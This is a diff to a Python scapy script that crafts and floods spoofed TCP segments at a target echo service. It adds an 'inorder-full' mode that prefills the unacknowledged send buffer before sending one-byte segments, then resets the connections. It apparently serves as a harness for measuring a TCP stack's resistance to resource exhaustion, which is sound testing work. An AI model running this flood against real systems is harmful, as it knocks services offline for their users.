@@ -31,7 +31,11 @@ from scapy.all import ARP, IP, TCP, AsyncSniffer, Ether, Raw, conf  # noqa: E402
 conf.verb = 0
 DEV, IPK_IP, ATK_IP = sys.argv[1], sys.argv[2], sys.argv[3]
 PORT, NCONN, NSEG = int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
-INORDER = len(sys.argv) > 7 and sys.argv[7] == "inorder"
+INORDER = len(sys.argv) > 7 and sys.argv[7] in ("inorder", "inorder-full")
+# "inorder-full": first PREFILL bytes per connection in full-sized segments, so the
+# echo's send buffer (256 KiB, never acknowledged) is full when the one-byte
+# segments come: they then wait in the application
+PREFILL = 320 * 1024 if len(sys.argv) > 7 and sys.argv[7] == "inorder-full" else 0
 ATK_MAC = "02:00:00:%02x:%02x:%02x" % tuple(random.randrange(256) for _ in range(3))
 
 
@@ -160,7 +164,7 @@ def flood_frames(mac, conns):
     per = []
     for i, (sp, mine, theirs) in enumerate(conns):
         if INORDER:
-            offs = list(range(NSEG))
+            offs = [PREFILL + k for k in range(NSEG)]
         else:
             offs = [1 + k for k in range(NSEG)] if i % 2 == 0 else \
                 [1 + 2 * k for k in range(NSEG)]
@@ -170,6 +174,12 @@ def flood_frames(mac, conns):
                                     seq=(mine + o) & 0xffffffff, ack=theirs,
                                     window=65535) / Raw(b"x")) for o in offs])
     out = []
+    for at in range(0, PREFILL, 1400):
+        for sp, mine, theirs in conns:
+            out.append(bytes(Ether(src=ATK_MAC, dst=mac) / IP(src=ATK_IP, dst=IPK_IP) /
+                             TCP(sport=sp, dport=PORT, flags="A", seq=(mine + at) & 0xffffffff,
+                                 ack=theirs, window=65535) /
+                             Raw(b"y" * min(1400, PREFILL - at))))
     for k in range(NSEG):
         out.extend(f[k] for f in per)
     return out
@@ -219,7 +229,7 @@ def main():
     for sp, mine, theirs in conns:
         l2.send(Ether(src=ATK_MAC, dst=mac) / IP(src=ATK_IP, dst=IPK_IP) /
                 TCP(sport=sp, dport=PORT, flags="R",
-                    seq=(mine + NSEG) & 0xffffffff if INORDER else mine))
+                    seq=(mine + PREFILL + NSEG) & 0xffffffff if INORDER else mine))
     time.sleep(1.0)
     t2 = time.monotonic()
     legit.stop.set()
